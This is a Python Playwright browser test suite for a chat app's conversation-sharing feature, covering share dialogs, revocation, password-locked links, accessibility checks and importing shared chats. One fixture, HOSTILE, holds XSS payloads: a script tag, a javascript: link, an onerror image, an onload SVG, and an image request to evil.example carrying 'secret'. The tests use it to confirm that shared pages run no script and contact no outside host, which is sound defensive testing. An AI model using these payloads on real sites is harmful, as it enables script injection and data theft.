"""A conversation is shared, read by visitors, locked and revoked, in a real browser (S8–S12, W2.7, W3)."""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, Request, expect

from tests.support.browser import Site, Visitor
from tests.support.chat_page import create_share_link

pytestmark = pytest.mark.browser

LIGHT_AND_DARK = ("light", "dark")
WIDTHS = (1280, 390)
ANSWER = """# Harbour report

The pilot boards at **buoy 7**. A table and some code:

| ship | draught |
|---|---:|
| Ada | 4.2 |

```python
def depth(tide: float) -> float:
    return 7.5 + tide
```

![the channel](workspace://{picture}#image/png) and [the log](workspace://{log}).
Not yours: workspace://00000000-0000-4000-8000-000000000000
"""
HOSTILE = """<script>document.title = "owned"</script> [x](javascript:alert(1))
![x](https://evil.example/p.png?d=secret) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
<img src=https://evil.example/q onerror=alert(1)>"""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c63606060f80f0001040100ad21db330000000049454e44ae426082"
)


def shot(page: Page, name: str) -> None:
    """Kept where SCREENSHOTS says, for people to look at (W4.5)."""
    if folder := os.environ.get("SCREENSHOTS"):
        page.screenshot(path=Path(folder) / f"{name}.png", full_page=True)


def conversation(email: str, *, hostile: bool = False) -> str:
    """A finished conversation with a picture and a file."""
    from django.contrib.auth.models import User

    from copilot.files import services as files
    from tests.support import factories

    owner = User.objects.get(email=email)
    session = factories.session(owner, title="Harbour report")
    turn = factories.turn(session, "succeeded")
    kept = [
        files.store_file(owner.pk, name=name, content=content, source="agent", session_id=session.pk)
        for name, content in (("channel.png", PNG), ("log of the day.txt", b"nothing to report"))
    ]
    factories.message(session, content=HOSTILE if hostile else "How is the harbour?", turn=turn)
    factories.message(session, "reasoning", content="A thought that stays private", turn=turn)
    factories.message(
        session, "tool_call", call_id="c", data={"tool": "web_fetch", "arguments": {}}, turn=turn
    )
    text = HOSTILE if hostile else ANSWER.format(picture=kept[0].pk, log=kept[1].pk)
    factories.message(session, "assistant", content=text, turn=turn)
    return str(session.pk)


def stranger(browser: Browser, site: Site, path: str, **options: object) -> tuple[Page, list[str]]:
    """Somebody else's browser, and every address outside the site that it asked for."""
    page = browser.new_context(**options).new_page()
    foreign: list[str] = []

    def watch(request: Request) -> None:
        if not request.url.startswith(site.url):
            foreign.append(request.url)

    page.on("request", watch)
    page.goto(path if path.startswith("http") else site.url + path)
    return page, foreign


def is_accessible(page: Page) -> None:
    found = Axe().run(page).response["violations"]
    serious = [rule for rule in found if rule["impact"] in ("serious", "critical")]
    assert serious == [], [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in serious]


def test_an_owner_shares_a_visitor_reads_and_a_revoked_link_stops_working(
    ada: Visitor, browser: Browser, site: Site, stored: Callable[[Callable[[], str]], str]
) -> None:
    """A-S11.4: and nothing that was not chosen is there (S8, W2.7)."""
    page = ada.log_in()
    page.goto(f"{site.url}/chat/{stored(lambda: conversation(ada.email))}/")
    page.get_by_role("button", name="Share", exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog.locator(".sharing-preview")).to_contain_text("buoy 7")
    expect(dialog.get_by_role("checkbox", name="channel.png")).to_be_checked()
    dialog.get_by_role("checkbox", name="log of the day.txt").uncheck()
    expect(dialog.get_by_role("checkbox", name="log of the day.txt")).not_to_be_checked()
    is_accessible(page)
    shot(page, "dialog")
    url = create_share_link(page)
    shot(page, "dialog-made")

    theirs, foreign = stranger(browser, site, url)
    expect(theirs.get_by_role("heading", level=1).first).to_have_text("Harbour report")
    expect(theirs.locator("main")).to_contain_text("buoy 7")
    assert theirs.evaluate("document.querySelector('.prose img').naturalWidth") == 1
    expect(theirs.locator("body")).not_to_contain_text("stays private")
    expect(theirs.locator("body")).not_to_contain_text("log of the day")
    expect(theirs.locator(".file-card.gone")).to_have_count(1)
    with theirs.expect_download() as saved:
        theirs.get_by_role("link", name="Download channel.png").last.click()
    assert saved.value.suggested_filename == "channel.png"
    is_accessible(theirs)
    theirs.locator(".shared-files .file-card a").first.click()
    expect(theirs.get_by_role("dialog").locator(".stage.ready img")).to_be_visible()
    is_accessible(theirs)
    shot(theirs, "shown")
    theirs.keyboard.press("Escape")
    expect(theirs.get_by_role("dialog")).to_have_count(0)
    assert foreign == []

    page.get_by_role("dialog").get_by_role("link", name="Shared links").click()
    expect(page.locator(".share-item")).to_have_count(1)
    expect(page.locator(".share-facts")).to_contain_text("1 ·")
    is_accessible(page)
    page.once("dialog", lambda asked: asked.accept())
    page.get_by_role("button", name="Revoke").click()
    expect(page.locator(".share-item")).to_have_count(0)
    assert theirs.reload().status == 404


def test_a_locked_link_opens_by_its_password_and_without_a_script(
    ada: Visitor, browser: Browser, site: Site, stored: Callable[[Callable[[], str]], str]
) -> None:
    """S9, S11, W2.7: share up to here."""
    page = ada.log_in()
    page.goto(f"{site.url}/chat/{stored(lambda: conversation(ada.email))}/")
    question = page.locator(".row.user")
    question.hover()
    question.get_by_role("button", name="Share up to here").click()
    dialog = page.get_by_role("dialog")
    expect(dialog.locator(".sharing-preview")).to_contain_text("How is the harbour?")
    expect(dialog.locator(".sharing-preview")).not_to_contain_text("buoy 7")
    dialog.get_by_label("Password").fill("open sesame")
    url = create_share_link(page)

    theirs, foreign = stranger(browser, site, url, java_script_enabled=False)
    expect(theirs.get_by_role("heading", level=1)).to_have_text("Password required")
    expect(theirs.locator("body")).not_to_contain_text("arbour")
    shot(theirs, "locked")
    theirs.get_by_label("Password").fill("wrong password")
    theirs.get_by_role("button", name="Open").click()
    expect(theirs.get_by_text("Wrong password.")).to_be_visible()
    expect(theirs.get_by_label("Password")).to_have_accessible_description(re.compile("Wrong password"))
    theirs.get_by_label("Password").fill("open sesame")
    theirs.get_by_role("button", name="Open").click()
    expect(theirs.locator("main")).to_contain_text("How is the harbour?")
    expect(theirs.locator("main")).not_to_contain_text("buoy 7")
    assert foreign == []


def test_a_hostile_conversation_runs_no_script_and_requests_no_other_host(
    ada: Visitor, browser: Browser, site: Site, stored: Callable[[Callable[[], str]], str]
) -> None:
    """A-S11.2"""

    def publish() -> str:
        from django.contrib.auth.models import User

        from copilot.sharing import drafts
        from copilot.sharing import services as sharing

        owner = User.objects.get(email=ada.email)
        session = conversation(ada.email, hostile=True)
        made = sharing.publish_session(
            owner.pk, session, drafts.ShareRequest(title=HOSTILE[:100]), sharing.ShareTerms()
        )
        return f"/share/{made.token}"

    theirs, foreign = stranger(browser, site, stored(publish))
    theirs.wait_for_load_state("networkidle")
    assert theirs.title() != "owned"
    assert theirs.locator("main img, main script, main svg[onload]").count() == 0
    assert foreign == []


@pytest.mark.looks
@pytest.mark.parametrize("scheme", LIGHT_AND_DARK)
def test_the_pages_fit_every_width_in_both_themes(
    visit: Callable[..., Visitor],
    browser: Browser,
    site: Site,
    stored: Callable[[Callable[[], str]], str],
    scheme: str,
) -> None:
    """A-S11.4, W4.1, W4.2: contrast and no scrolling sideways."""
    ada = visit(color_scheme=scheme)
    page = ada.log_in()
    page.goto(f"{site.url}/chat/{stored(lambda: conversation(ada.email))}/")
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 844})
        page.reload()
        page.get_by_role("button", name="Share", exact=True).click()
        expect(page.locator(".sharing-preview")).to_contain_text("buoy 7")
        shot(page, f"dialog-{scheme}-{width}")
        if width == WIDTHS[0]:
            url = create_share_link(page)
        theirs, _ = stranger(
            browser, site, url, color_scheme=scheme, viewport={"width": width, "height": 844}
        )
        links = ada.tab("/settings/shares/")
        links.set_viewport_size({"width": width, "height": 844})
        for name, one in (("share", theirs), ("links", links)):
            is_accessible(one)
            assert one.evaluate("document.documentElement.scrollWidth <= innerWidth"), (name, width)
            shot(one, f"{name}-{scheme}-{width}")
        links.locator("summary", has_text="Edit").first.click()
        shot(links, f"links-open-{scheme}-{width}")


def test_a_reader_takes_a_shared_conversation_into_their_own_account(
    visit: Callable[..., Visitor], stored: Callable[[Callable[[], str]], str]
) -> None:
    """S11: allowed in the dialog, asked on a page of its own, then a chat with its picture and no way back to the owner's"""
    ada, bob = visit(), visit()
    session = stored(lambda: conversation(ada.email))
    ada.log_in()
    page = ada.tab(f"/chat/{session}/")
    page.get_by_role("button", name="Share", exact=True).click()
    page.get_by_label("Continue it in their own account").check()
    page.get_by_role("button", name="Create link").click()
    expect(page.locator("#sharing[data-made]")).to_be_visible()
    link = page.get_by_label("Link", exact=True).input_value()
    bob.log_in()
    page = bob.tab(link.removeprefix(bob.site.url))
    page.get_by_role("link", name="Continue in my account").click()
    is_accessible(page)
    page.get_by_role("button", name="Copy and open").click()
    expect(page).to_have_url(re.compile("/chat/[0-9a-f-]{36}/$"))
    expect(page.locator(".imported")).to_be_visible()
    expect(page.locator(".row.answer .prose img")).to_have_js_property("complete", True)
    expect(page.locator(".row.answer .prose h1")).to_have_text("Harbour report")
    assert session not in page.url
